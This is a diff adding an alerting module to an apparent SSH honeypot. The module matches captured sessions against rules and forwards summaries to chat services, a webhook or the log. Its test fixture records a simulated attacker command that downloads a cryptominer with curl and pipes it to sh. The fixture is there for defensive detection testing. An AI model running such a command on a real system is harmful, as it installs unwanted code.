@@ -0,0 +1,417 @@
+mod discord;
+mod slack;
+mod telegram;
+mod webhook;
+
+use std::{
+    collections::HashMap, fmt::Write, io::ErrorKind, net::SocketAddr, sync::Arc, time::Duration,
+};
+
+use async_trait::async_trait;
+use serde::Serialize;
+use tracing::warn;
+use uuid::Uuid;
+
+use crate::{
+    audit::{AuditLog, AuditLogAction, AuditSink, LoginAttemptEvent},
+    config::{AlertRuleConfig, Config, NotifierKind},
+};
+
+/// Number of commands to include in an alert, anything past this is left for the audit log.
+const MAX_COMMANDS: usize = 5;
+
+/// A destination for alerts, such as a chat channel or a pager.
+#[async_trait]
+pub trait Notifier: Send + Sync {
+    async fn notify(&self, alert: &Alert) -> Result<(), std::io::Error>;
+}
+
+/// Summary of a session that matched an alert rule.
+#[derive(Serialize, Debug, Clone, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub struct Alert {
+    pub rule: Arc<str>,
+    pub connection_id: Uuid,
+    pub peer_address: Option<SocketAddr>,
+    pub country: Option<Box<str>>,
+    /// Username and password pairs the client tried.
+    pub credentials: Vec<(Box<str>, Box<str>)>,
+    /// The first few commands the client ran.
+    pub commands: Vec<Box<str>>,
+}
+
+impl Alert {
+    fn new(rule: Arc<str>, log: &AuditLog) -> Self {
+        Self {
+            rule,
+            connection_id: log.connection_id,
+            peer_address: log.peer_address,
+            country: log.geoip.as_ref().and_then(|v| v.country.clone()),
+            credentials: credentials(log)
+                .map(|(username, password)| (username.into(), password.into()))
+                .collect(),
+            commands: commands(log).take(MAX_COMMANDS).map(Box::from).collect(),
+        }
+    }
+
+    /// Renders the alert as a few lines of plain text, for notifiers that don't have anything
+    /// better to offer.
+    pub fn summary(&self) -> String {
+        let details = self.details();
+
+        if details.is_empty() {
+            self.headline()
+        } else {
+            format!("{}\n{details}", self.headline())
+        }
+    }
+
+    /// A single line saying which rule matched and where the client came from.
+    pub fn headline(&self) -> String {
+        let mut out = format!("pisshoff alert \"{}\"", self.rule);
+
+        if let Some(peer_address) = self.peer_address {
+            write!(out, " from {}", peer_address.ip()).unwrap();
+        }
+
+        if let Some(country) = &self.country {
+            write!(out, " ({country})").unwrap();
+        }
+
+        out
+    }
+
+    /// The credentials the client tried and the commands it ran, a line each.
+    pub fn details(&self) -> String {
+        let credentials = self
+            .credentials
+            .iter()
+            .map(|(username, password)| format!("login: {username} / {password}"));
+        let commands = self.commands.iter().map(|command| format!("$ {command}"));
+
+        credentials.chain(commands).collect::<Vec<_>>().join("\n")
+    }
+
+    /// Renders the alert as Markdown, with the client-controlled details in a code block so
+    /// they can't be mistaken for formatting. `bold` is the chat service's bold marker.
+    fn markdown(&self, bold: &str) -> String {
+        let headline = format!("{bold}{}{bold}", self.headline());
+        let details = self.details();
+
+        if details.is_empty() {
+            headline
+        } else {
+            // the client could otherwise close the code block early
+            format!("{headline}\n```\n{}\n```", details.replace("```", "'''"))
+        }
+    }
+}
+
+/// Creates a client to send notifications with.
+fn http_client() -> Result<reqwest::Client, std::io::Error> {
+    reqwest::Client::builder()
+        .timeout(Duration::from_secs(10))
+        .build()
+        .map_err(|e| std::io::Error::new(ErrorKind::Other, e))
+}
+
+/// POSTs `body` as JSON to `url`, failing if the endpoint doesn't respond successfully.
+async fn post_json(
+    client: &reqwest::Client,
+    url: &str,
+    body: &impl Serialize,
+) -> Result<(), std::io::Error> {
+    client
+        .post(url)
+        .json(body)
+        .send()
+        .await
+        .and_then(reqwest::Response::error_for_status)
+        .map_err(|e| std::io::Error::new(ErrorKind::Other, e))?;
+
+    Ok(())
+}
+
+/// Cuts `s` down to at most `max` characters, for services that reject longer messages.
+fn truncate(mut s: String, max: usize) -> String {
+    if s.chars().count() > max {
+        if let Some((i, _)) = s.char_indices().nth(max.saturating_sub(1)) {
+            s.truncate(i);
+            s.push('…');
+        }
+    }
+
+    s
+}
+
+struct Rule {
+    config: AlertRuleConfig,
+    name: Arc<str>,
+    notifiers: Vec<Arc<dyn Notifier>>,
+}
+
+impl Rule {
+    fn matches(&self, log: &AuditLog) -> bool {
+        let config = &self.config;
+
+        let username = config.username.is_empty()
+            || credentials(log).any(|(username, _)| config.username.iter().any(|v| v == username));
+        let password = config.password.is_empty()
+            || credentials(log).any(|(_, password)| config.password.iter().any(|v| v == password));
+        let command = config.command_contains.is_empty()
+            || commands(log).any(|command| {
+                config
+                    .command_contains
+                    .iter()
+                    .any(|v| command.contains(v.as_str()))
+            });
+        let subsystem = config.subsystem.is_empty()
+            || log.events.iter().any(|event| match &event.action {
+                AuditLogAction::SubsystemRequest(request) => {
+                    config.subsystem.iter().any(|v| *v == *request.name)
+                }
+                _ => false,
+            });
+        let country = config.country.is_empty()
+            || log
+                .geoip
+                .as_ref()
+                .and_then(|v| v.country.as_deref())
+                .map_or(false, |country| {
+                    config
+                        .country
+                        .iter()
+                        .any(|v| v.eq_ignore_ascii_case(country))
+                });
+
+        username && password && command && subsystem && country
+    }
+}
+
+/// Checks each completed audit log against the configured alert rules, sending an alert to the
+/// rule's notifiers for every rule that matches.
+pub struct AlertSink {
+    rules: Vec<Rule>,
+}
+
+impl AlertSink {
+    pub fn new(config: &Config) -> Result<Self, std::io::Error> {
+        let mut notifiers: HashMap<&str, Arc<dyn Notifier>> = HashMap::new();
+
+        for notifier in &config.notifiers {
+            let instance: Arc<dyn Notifier> = match &notifier.kind {
+                NotifierKind::Discord(config) => Arc::new(discord::DiscordNotifier::new(config)?),
+                NotifierKind::Log => Arc::new(LogNotifier),
+                NotifierKind::Slack(config) => Arc::new(slack::SlackNotifier::new(config)?),
+                NotifierKind::Telegram(config) => {
+                    Arc::new(telegram::TelegramNotifier::new(config)?)
+                }
+                NotifierKind::Webhook(config) => Arc::new(webhook::WebhookNotifier::new(config)?),
+            };
+
+            notifiers.insert(&notifier.name, instance);
+        }
+
+        let rules = config
+            .alerts
+            .iter()
+            .map(|rule| {
+                let targets = if rule.notify.is_empty() {
+                    notifiers.values().cloned().collect()
+                } else {
+                    rule.notify
+                        .iter()
+                        .map(|name| {
+                            notifiers.get(name.as_str()).cloned().ok_or_else(|| {
+                                std::io::Error::new(
+                                    ErrorKind::InvalidInput,
+                                    format!(
+                                        "alert {} refers to unknown notifier {name}",
+                                        rule.name
+                                    ),
+                                )
+                            })
+                        })
+                        .collect::<Result<_, _>>()?
+                };
+
+                Ok(Rule {
+                    name: rule.name.as_str().into(),
+                    config: rule.clone(),
+                    notifiers: targets,
+                })
+            })
+            .collect::<Result<_, std::io::Error>>()?;
+
+        Ok(Self { rules })
+    }
+}
+
+#[async_trait]
+impl AuditSink for AlertSink {
+    async fn write(&mut self, log: &AuditLog) -> Result<(), std::io::Error> {
+        for rule in self.rules.iter().filter(|rule| rule.matches(log)) {
+            let alert = Arc::new(Alert::new(rule.name.clone(), log));
+
+            // notifiers can be slow, and shouldn't hold up the audit sinks while they are
+            for notifier in &rule.notifiers {
+                let notifier = notifier.clone();
+                let alert = alert.clone();
+
+                tokio::spawn(async move {
+                    if let Err(error) = notifier.notify(&alert).await {
+                        warn!(%error, rule = %alert.rule, "Failed to send alert");
+                    }
+                });
+            }
+        }
+
+        Ok(())
+    }
+}
+
+/// Writes alerts to the server's log.
+struct LogNotifier;
+
+#[async_trait]
+impl Notifier for LogNotifier {
+    async fn notify(&self, alert: &Alert) -> Result<(), std::io::Error> {
+        warn!(rule = %alert.rule, connection_id = %alert.connection_id, "{}", alert.summary());
+        Ok(())
+    }
+}
+
+/// Username and password pairs the client tried to log in with.
+fn credentials(log: &AuditLog) -> impl Iterator<Item = (&str, &str)> {
+    log.events
+        .iter()
+        .filter_map(|event| match &event.action {
+            AuditLogAction::LoginAttempt(LoginAttemptEvent::UsernamePassword {
+                username,
+                password,
+            }) => Some(vec![(&**username, &**password)]),
+            AuditLogAction::LoginAttempt(LoginAttemptEvent::KeyboardInteractive {
+                username,
+                responses,
+            }) => Some(responses.iter().map(|v| (&**username, &**v)).collect()),
+            _ => None,
+        })
+        .flatten()
+}
+
+/// Commands the client ran, in the order they ran them.
+fn commands(log: &AuditLog) -> impl Iterator<Item = &str> {
+    log.events
+        .iter()
+        .filter_map(|event| match &event.action {
+            AuditLogAction::ExecCommand(command) => Some(command.args.iter().map(String::as_str)),
+            _ => None,
+        })
+        .flatten()
+}
+
+#[cfg(test)]
+mod test {
+    use super::{truncate, Alert, Rule};
+    use crate::{
+        audit::{
+            AuditLog, AuditLogAction, ExecCommandEvent, GeoIp, LoginAttemptEvent,
+            SubsystemRequestEvent,
+        },
+        config::AlertRuleConfig,
+    };
+
+    fn rule(f: impl FnOnce(&mut AlertRuleConfig)) -> Rule {
+        let mut config = AlertRuleConfig {
+            name: "test".to_string(),
+            username: vec![],
+            password: vec![],
+            command_contains: vec![],
+            subsystem: vec![],
+            country: vec![],
+            notify: vec![],
+        };
+        f(&mut config);
+
+        Rule {
+            name: config.name.as_str().into(),
+            config,
+            notifiers: vec![],
+        }
+    }
+
+    fn log() -> AuditLog {
+        let mut log = AuditLog {
+            peer_address: Some(([192, 0, 2, 1], 22).into()),
+            ..AuditLog::default()
+        };
+        log.geoip = Some(GeoIp {
+            country: Some("NL".into()),
+            ..GeoIp::default()
+        });
+        log.push_action(AuditLogAction::LoginAttempt(
+            LoginAttemptEvent::UsernamePassword {
+                username: "root".into(),
+                password: "hunter2".into(),
+            },
+        ));
+        log.push_action(AuditLogAction::SubsystemRequest(SubsystemRequestEvent {
+            name: "sftp".into(),
+        }));
+        log.push_action(AuditLogAction::ExecCommand(ExecCommandEvent {
+            args: Box::from(vec!["curl -s http://192.0.2.2/xmrig | sh".to_string()]),
+        }));
+        log
+    }
+
+    #[test]
+    fn matches_every_condition() {
+        let log = log();
+
+        assert!(rule(|_| {}).matches(&log));
+        assert!(rule(|v| v.command_contains = vec!["xmrig".to_string()]).matches(&log));
+        assert!(rule(|v| {
+            v.username = vec!["admin".to_string(), "root".to_string()];
+            v.password = vec!["hunter2".to_string()];
+            v.subsystem = vec!["sftp".to_string()];
+            v.country = vec!["nl".to_string()];
+        })
+        .matches(&log));
+
+        assert!(!rule(|v| {
+            v.command_contains = vec!["xmrig".to_string()];
+            v.username = vec!["admin".to_string()];
+        })
+        .matches(&log));
+        assert!(!rule(|v| v.country = vec!["US".to_string()]).matches(&AuditLog::default()));
+    }
+
+    #[test]
+    fn summarises_session() {
+        let alert = Alert::new("miner".into(), &log());
+
+        assert_eq!(
+            alert.summary(),
+            "pisshoff alert \"miner\" from 192.0.2.1 (NL)\nlogin: root / hunter2\n$ curl -s \
+             http://192.0.2.2/xmrig | sh"
+        );
+    }
+
+    #[test]
+    fn renders_markdown() {
+        let mut alert = Alert::new("miner".into(), &log());
+        alert.commands = vec!["echo ```".into()];
+
+        assert_eq!(
+            alert.markdown("*"),
+            "*pisshoff alert \"miner\" from 192.0.2.1 (NL)*\n```\nlogin: root / hunter2\n$ echo \
+             '''\n```"
+        );
+    }
+
+    #[test]
+    fn truncates() {
+        assert_eq!(truncate("hello".to_string(), 5), "hello");
+        assert_eq!(truncate("héllo world".to_string(), 5), "héll…");
+    }
+}